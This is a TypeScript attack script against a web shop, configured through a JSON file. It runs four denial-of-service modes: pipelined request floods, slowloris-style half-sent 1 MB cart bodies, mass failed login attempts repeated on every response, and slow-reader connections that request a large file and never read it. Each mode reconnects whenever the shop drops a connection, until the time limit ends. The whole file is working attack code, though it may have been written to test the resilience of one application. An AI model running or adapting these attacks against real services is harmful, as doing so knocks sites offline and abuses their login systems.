/**
 * attack.ts <file>: attacks a shop for some seconds, then leaves without a word. The file holds an
 * `Attack` as JSON. It prints how many connections it opened.
 */
import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';

export interface Attack {
  kind: keyof typeof attacks;
  url: string;
  seconds: number;
  /** A large file of the shop. */
  largePath: string;
}

const KB = 1024;
const request = (line: string, ...headers: string[]) =>
  [`${line} HTTP/1.1`, 'host: shop', ...headers].join('\r\n').concat('\r\n\r\n');
const json = 'content-type: application/json';

interface Sockets {
  count: number;
  /** Called on every new connection. */
  begin(socket: Socket): void;
  /** Whether a connection that the shop closed is opened again. */
  again: boolean;
}

const pipelined = request('GET /api/packages').repeat(2000);
const halfCart = `{"packages":[{"description":"${'x'.repeat(1000 * KB)}`;
const cartBytes = halfCart.length + 10;
const halfSent = request('POST /api/create-free-order', json, `content-length: ${cartBytes}`);
const login = (socket: Socket) => {
  const username = `nobody-${Math.random()}`;
  const body = JSON.stringify({ username, password: 'not-the-password' });
  const head = request('POST /api/auth/login', json, `content-length: ${body.length}`);
  socket.write(head + body);
};

const attacks = {
  /** Thousands of requests at once, on each of 50 connections. */
  pipelining: { count: 50, again: true, begin: (socket) => void socket.write(pipelined) },
  /** 400 carts of 1 MB whose last bytes never come. */
  'half-sent bodies': {
    count: 400,
    again: true,
    begin: (socket) => void socket.write(halfSent + halfCart),
  },
  /** 200 sign-ins with a wrong password at once, again and again. */
  'sign-ins': {
    count: 200,
    again: true,
    begin(socket) {
      login(socket);
      socket.on('data', (piece) => String(piece).includes('HTTP/1.1') && login(socket));
    },
  },
  /** 500 connections that ask for files and do not read. */
  'slow readers': {
    count: 500,
    again: false,
    begin(socket) {
      socket.pause();
      socket.write(request(`GET ${attack.largePath}`).repeat(16));
    },
  },
} satisfies Record<string, Sockets>;

const [, , file = ''] = process.argv;
const attack: Attack = JSON.parse(readFileSync(file, 'utf8'));
const { hostname, port } = new URL(attack.url);
const { count, begin, again }: Sockets = attacks[attack.kind];
const until = performance.now() + attack.seconds * 1000;
let opened = 0;

function open(): void {
  opened += 1;
  const socket = connect(Number(port), hostname, () => begin(socket));
  socket.on('error', () => undefined).resume();
  socket.on('close', () => again && performance.now() < until && setTimeout(open, 10));
}

for (let at = 0; at < count; at += 1) open();
setTimeout(() => {
  process.stdout.write(`${opened}\n`);
  process.exit();
}, attack.seconds * 1000);
